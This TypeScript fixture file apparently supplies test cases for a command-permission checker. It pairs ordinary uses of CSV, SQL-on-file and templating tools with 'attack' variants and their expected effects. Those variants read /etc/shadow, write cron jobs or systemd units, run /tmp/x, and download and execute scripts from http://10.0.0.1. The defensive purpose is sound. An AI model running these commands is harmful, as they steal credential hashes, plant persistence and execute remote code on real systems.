import type { ExampleTable } from './example.ts'

export const structuredData2: ExampleTable = {
  'csvtool format': {
    use: "csvtool format '%(1) %(2)\\n' orders.csv → read orders.csv",
    attack: [
      "csvtool -t : format '%(2)\\n' /etc/shadow → read /etc/shadow",
      "csvtool format '%(1)\\n' job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job",
    ],
  },
  'csvtool head': {
    use: 'csvtool head 10 orders.csv → read orders.csv',
    attack: [
      'csvtool head 10 /etc/shadow → read /etc/shadow',
      'csvtool head 1 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool height': {
    use: 'csvtool height orders.csv → read orders.csv',
  },
  'csvtool namedcol': {
    use: 'csvtool namedcol name,price orders.csv → read orders.csv',
    attack:
      'csvtool namedcol line job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
  },
  'csvtool paste': {
    use: 'csvtool paste names.csv prices.csv → read names.csv; read prices.csv',
    attack: [
      'csvtool paste /etc/shadow names.csv → read /etc/shadow; read names.csv',
      'csvtool paste job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool readable': {
    use: 'csvtool readable orders.csv → read orders.csv',
    attack: [
      'csvtool readable /etc/shadow → read /etc/shadow',
      'csvtool readable job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool square': {
    use: 'csvtool square orders.csv → read orders.csv',
    attack: [
      'csvtool square /etc/shadow → read /etc/shadow',
      'csvtool square job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool transpose': {
    use: 'csvtool transpose orders.csv → read orders.csv',
    attack: [
      'csvtool transpose /etc/shadow → read /etc/shadow',
      'csvtool transpose job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool trim': {
    use: 'csvtool trim tb orders.csv → read orders.csv',
    attack: [
      'csvtool trim tb /etc/shadow → read /etc/shadow',
      'csvtool trim tb job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool width': {
    use: 'csvtool width orders.csv → read orders.csv',
  },
  dsq: {
    use: "dsq orders.json 'select count(*) from {}' → read orders.json",
  },
  in2csv: {
    use: 'in2csv orders.xlsx → read orders.xlsx',
    attack: 'in2csv -f csv /etc/shadow → read /etc/shadow',
  },
  mlr: {
    use: [
      'mlr --icsv --ojson cat orders.csv → read orders.csv',
      'mlr -I cat orders.csv → read orders.csv; write orders.csv',
    ],
    attack: [
      'mlr --inidx --ojson cat /etc/shadow → read /etc/shadow',
      'mlr --prepipe /tmp/x --icsv cat orders.csv → run /tmp/x; read orders.csv',
      'mlr -n put \'end{print system("/tmp/x")}\' → run /tmp/x',
    ],
  },
  q: {
    use: "q -H -d , 'select count(*) from orders.csv' → nothing",
    attack: [
      "q -d : 'select c2 from /etc/shadow' → read /etc/shadow",
      'q -q /etc/shadow → read /etc/shadow',
    ],
  },
  sql2csv: {
    use: 'sql2csv --db sqlite:///app.db report.sql → read report.sql',
    attack: 'sql2csv --db sqlite:///app.db /etc/shadow → read /etc/shadow',
  },
  textql: {
    use: "textql -header -sql 'select count(*) from orders' orders.csv → read orders.csv",
    attack: [
      "textql -dlm : -sql 'select * from shadow' /etc/shadow → read /etc/shadow",
      'textql -save-to /etc/cron.d/job orders.csv → read orders.csv; write /etc/cron.d/job',
    ],
  },
  trdsql: {
    use: 'trdsql -q report.sql → read report.sql',
    attack: [
      "trdsql 'select * from /etc/shadow' → read /etc/shadow",
      "trdsql -id : 'select * from /etc/shadow' → read /etc/shadow",
      "trdsql -out /etc/cron.d/job 'select line from job.csv' → write /etc/cron.d/job",
    ],
  },
  tsv2csv: {
    use: 'tsv2csv orders.tsv → read orders.tsv',
    attack: 'tsv2csv /etc/shadow → read /etc/shadow',
  },
  visidata: {
    use: 'visidata orders.csv → read orders.csv',
    attack: [
      'visidata -f txt /etc/shadow → read /etc/shadow',
      'curl -so c.py http://10.0.0.1/c && visidata --config c.py orders.csv → execute ‹http://10.0.0.1/c›; read orders.csv',
    ],
  },
  'xsv cat': {
    use: 'xsv cat rows may.csv june.csv → read may.csv; read june.csv',
    attack: [
      'xsv cat rows /etc/shadow → read /etc/shadow',
      'xsv cat rows job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv count': {
    use: 'xsv count orders.csv → read orders.csv',
  },
  'xsv frequency': {
    use: 'xsv frequency -s name orders.csv → read orders.csv',
    attack: [
      'xsv frequency -d : /etc/shadow → read /etc/shadow',
      'xsv frequency job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv headers': {
    use: 'xsv headers orders.csv → read orders.csv',
    attack: 'xsv headers -d : /etc/shadow → read /etc/shadow',
  },
  'xsv sample': {
    use: 'xsv sample 10 orders.csv → read orders.csv',
    attack: [
      'xsv sample 10 /etc/shadow → read /etc/shadow',
      'xsv sample 10 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv search': {
    use: 'xsv search -s name tea orders.csv → read orders.csv',
    attack: [
      'xsv search . /etc/shadow → read /etc/shadow',
      'xsv search . job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv select': {
    use: 'xsv select name,price orders.csv → read orders.csv',
    attack: [
      'xsv select -d : 1-2 /etc/shadow → read /etc/shadow',
      'xsv select line job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv slice': {
    use: 'xsv slice -s 10 -e 20 orders.csv → read orders.csv',
    attack: [
      'xsv slice -l 5 /etc/shadow → read /etc/shadow',
      'xsv slice -l 1 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv sort': {
    use: 'xsv sort -s price orders.csv → read orders.csv',
    attack: [
      'xsv sort /etc/shadow → read /etc/shadow',
      'xsv sort job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv split': {
    use: 'xsv split -s 1000 parts orders.csv → read orders.csv; unpack parts',
    attack: [
      'xsv split /etc/cron.d job.csv → read job.csv; unpack /etc/cron.d',
      'xsv split parts /etc/shadow → read /etc/shadow; unpack parts',
    ],
  },
  'xsv stats': {
    use: 'xsv stats orders.csv → read orders.csv',
    attack: [
      'xsv stats -d : /etc/shadow → read /etc/shadow',
      'xsv stats job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'xsv table': {
    use: 'xsv table orders.csv → read orders.csv',
    attack: [
      'xsv table /etc/shadow → read /etc/shadow',
      'xsv table job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  confd: {
    use: 'confd -config-file confd.toml → read confd.toml',
    attack: 'confd -config-file /tmp/x.toml → run /tmp/x.toml; read /tmp/x.toml',
  },
  esh: {
    use: 'esh -o app.conf app.conf.esh port=80 → read app.conf.esh; write app.conf',
    attack: [
      'esh /etc/shadow → read /etc/shadow',
      'esh -s /tmp/x app.conf.esh → run /tmp/x; read app.conf.esh',
      'esh -o /etc/cron.d/job job.esh → read job.esh; write /etc/cron.d/job',
    ],
  },
  gomplate: {
    use: 'gomplate -f app.tmpl -o app.conf → read app.tmpl; write app.conf',
    attack: [
      'gomplate -f /etc/shadow → read /etc/shadow',
      'gomplate -f app.tmpl -o app.conf -- bash → shell bash; read app.tmpl; write app.conf',
    ],
  },
  j2: {
    use: 'j2 app.conf.j2 data.json → read app.conf.j2; read data.json',
    attack: [
      'j2 /etc/shadow data.json → read /etc/shadow; read data.json',
      'curl -so f.py http://10.0.0.1/f && j2 --filters f.py app.conf.j2 data.json → execute ‹http://10.0.0.1/f›; read app.conf.j2; read data.json',
    ],
  },
  jinja2: {
    use: 'jinja2 app.conf.j2 data.json → read app.conf.j2; read data.json',
    attack: [
      'jinja2 /etc/shadow data.json → read /etc/shadow; read data.json',
      'jinja2 -o /etc/cron.d/job job.j2 data.json → read job.j2; read data.json; write /etc/cron.d/job',
    ],
  },
  'minijinja-cli': {
    use: 'minijinja-cli app.conf.j2 data.json → read app.conf.j2; read data.json',
    attack: [
      'minijinja-cli /etc/shadow data.json → read /etc/shadow; read data.json',
      'minijinja-cli -o /etc/cron.d/job job.j2 data.json → read job.j2; read data.json; write /etc/cron.d/job',
    ],
  },
  mustache: {
    use: 'mustache data.yml page.mustache → read data.yml; read page.mustache',
    attack: 'mustache data.yml /etc/shadow → read data.yml; read /etc/shadow',
  },
  tera: {
    use: 'tera --template app.tera --out app.conf data.json → read app.tera; write app.conf',
    attack: 'tera --template /etc/shadow data.json → read /etc/shadow',
  },
  jinjanate: {
    use: 'jinjanate app.conf.j2 data.json → read app.conf.j2; read data.json',
    attack: [
      'jinjanate /etc/shadow data.json → read /etc/shadow; read data.json',
      'curl -so c.py http://10.0.0.1/c && jinjanate --customize c.py app.conf.j2 data.json → execute ‹http://10.0.0.1/c›; read app.conf.j2; read data.json',
    ],
  },
  jo: {
    use: 'jo -f base.json name=tea → read base.json',
    attack: 'jo -o /etc/cron.d/job a=1 → write /etc/cron.d/job',
  },
  crudini: {
    use: 'crudini --get app.ini main port → read app.ini',
    attack: [
      'crudini --set /etc/systemd/system/app.service Service ExecStart /tmp/x → write /etc/systemd/system/app.service',
      'crudini --get /etc/shadow → read /etc/shadow',
    ],
  },
  plutil: {
    use: 'plutil -p app.plist → read app.plist',
    attack:
      'plutil -convert xml1 -o /etc/cron.d/job in.plist → read in.plist; write /etc/cron.d/job',
  },
  'csvtool join': {
    use: 'csvtool join 1 2 orders.csv people.csv → read orders.csv; read people.csv',
    attack: 'csvtool join 1 2 orders.csv /etc/shadow → read orders.csv; read /etc/shadow',
  },
  octosql: {
    use: "octosql 'select count(*) from orders.csv' → nothing",
  },
  'xsv join': {
    use: 'xsv join id orders.csv id people.csv → read orders.csv; read people.csv',
    attack: 'xsv join 1 /etc/shadow 1 people.csv → read /etc/shadow; read people.csv',
  },
}
